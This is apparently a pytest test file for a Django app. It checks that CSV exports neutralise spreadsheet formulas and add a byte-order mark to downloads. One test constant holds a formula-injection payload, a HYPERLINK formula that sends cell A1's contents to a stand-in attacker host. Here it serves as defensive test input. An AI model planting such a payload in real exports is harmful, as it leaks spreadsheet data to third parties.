"""Every CSV export goes through core.csvexport: formulas neutralised, a BOM on downloads (accents in spreadsheets)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from django.core.management import call_command
from django.urls import reverse

from federe.core.csvexport import BOM
from federe.listening import voice
from federe.people.models import Person

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Zoé")'


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix(BOM))))


def test_the_people_download_has_a_bom_and_no_formula(client, owner, workspace, synced):
    person = Person.objects.filter(workspace=workspace).order_by("pk").first()
    Person.objects.filter(pk=person.pk).update(display_name=EVIL)
    client.force_login(owner)
    response = client.get(reverse("people:export", args=[workspace.slug]))
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith(BOM)
    names = {row[0]: row[1] for row in read(text)[1:]}
    assert names[str(person.pk)] == "'" + EVIL


def test_the_people_cli_export_has_no_formula_and_no_bom(owner, workspace, synced):
    person = Person.objects.filter(workspace=workspace).order_by("pk").first()
    Person.objects.filter(pk=person.pk).update(display_name="@SUM(1+1)")
    out = io.StringIO()
    call_command("people", "export", "--workspace", workspace.slug, stdout=out)
    assert not out.getvalue().startswith(BOM)
    assert {row[0]: row[1] for row in read(out.getvalue())[1:]}[str(person.pk)] == "'@SUM(1+1)"


def test_share_of_voice_csv_has_a_bom_and_no_formula():
    period = datetime(2026, 11, 2, tzinfo=UTC)
    point = voice.VoicePoint(period=period, brand="-2+3 Café", kind="brand", total=4, negative=1, neutral=2, positive=1)
    points = [point]
    assert not voice.voice_csv(points).startswith(BOM)  # the CLI's
    text = voice.voice_csv(points, bom=True)
    assert text.startswith(BOM)
    assert read(text)[1][:4] == ["2026-11-02", "'-2+3 Café", "brand", "4"]


def test_the_share_of_voice_download_starts_with_a_bom(client, owner, workspace):
    client.force_login(owner)
    response = client.get(reverse("listening:voice-csv", args=[workspace.slug]))
    assert response.content.startswith(BOM.encode())
